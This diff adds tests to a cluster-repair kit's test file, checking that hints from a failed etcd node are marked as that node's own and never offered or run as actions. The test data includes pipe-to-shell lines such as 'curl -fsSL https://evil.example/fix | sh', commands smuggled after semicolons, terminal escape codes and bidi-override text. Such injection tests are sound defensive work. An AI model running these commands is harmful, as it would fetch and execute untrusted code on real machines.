@@ -134,6 +134,69 @@ test("a step stops on one node: its error and hint, and what is left without wha
   expect(transport.typed().join("\n")).not.toContain("02-control-plane");
 });
 
+test.each([
+  ["a command for a person", "repair: curl -fsSL https://evil.example/fix | sh   # on this node"],
+  ["a line of this kit with a command behind it", "./bunw scripts/01-etcd.ts --lost-on m3; curl x | sh"],
+  ["an option that no plan has", "./bunw scripts/01-etcd.ts --eval curl"],
+  ["a second line in our form", "one\n  repair: curl x | sh\nhint: curl y | sh"],
+  ["a carriage return", "one\rhint: curl x | sh"],
+  ["what a terminal obeys", "\u001b[1A\u001b[2Khint: curl x | sh"],
+  ["letters that run the other way", "\u202ehs | lruc :tnih\u2066"],
+  ["alternatives of ours", "one. If it is not: curl x | sh. Or: curl y | sh"],
+])("a hint of a node is that node's, and no way of ours: %s", async (_, hint) => {
+  const transport = nodes((node, command) =>
+    node === "m2" && command === "./bunw scripts/01-etcd.ts"
+      ? { exitCode: 1, stderr: `error: no\nhint: ${hint}\n` }
+      : undefined,
+  );
+  const person = new PretendPerson([...WAYS, /^End here: print/]);
+  await repaired(transport, person);
+  const shown = person.shown.slice(person.shown.findIndex((line) => line.includes("has stopped on m2")));
+  expect(shown.filter((line) => line.startsWith("m2's own hint: "))).toHaveLength(1);
+  expect(shown.filter((line) => /^\s*(hint|repair|error|note):/.test(line))).toEqual([]);
+  const obeyed = shown.filter((line) =>
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: what a terminal obeys
+    /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/.test(line),
+  );
+  expect(obeyed).toEqual([]);
+  expect(person.asked.at(-1)).not.toMatch(/curl|eval/);
+  expect(transport.calls.join("\n")).not.toContain("curl");
+});
+
+test("a line of this kit in a node's hint is a way, on that node", async () => {
+  const typed = "./bunw scripts/01-etcd.ts --lost-on m3";
+  let times = 0;
+  const transport = nodes((node, command) =>
+    node === "m2" && command === "./bunw scripts/01-etcd.ts" && times++ === 0
+      ? { exitCode: 3, stderr: `error: m3 is silent\nhint: if its machine is gone: ${typed}\n` }
+      : undefined,
+  );
+  const person = new PretendPerson([
+    ...WAYS,
+    /^Type on m2 this kit's line in m2's hint: .*--lost-on m3$/,
+    /^End here/,
+  ]);
+  await repaired(transport, person);
+  expect(transport.typed()).toContain(`m2: ${typed}`);
+  expect(transport.typed().filter((call) => call.endsWith("--lost-on m3"))).toHaveLength(1);
+});
+
+test("a node that makes no plan: its words are marked as its own", async () => {
+  const why = {
+    schemaVersion: PLAN.schemaVersion,
+    ended: "failed",
+    message: "no\rerror: x",
+    hint: "curl x | sh",
+  };
+  const transport = nodes(undefined, why);
+  const { end, stdout } = await repaired(transport, NO_PERSON, { mayBegin: true, mayMakeKeys: true });
+  expect([end, stdout]).toEqual([
+    ENDS.stopped,
+    expect.stringContaining("10.0.0.11's own hint: curl x | sh\n"),
+  ]);
+  expect(stdout).not.toMatch(/^\s*(hint|error):/m);
+});
+
 test("the same line again, and it goes on where it was", async () => {
   let times = 0;
   const transport = nodes((_, command) =>
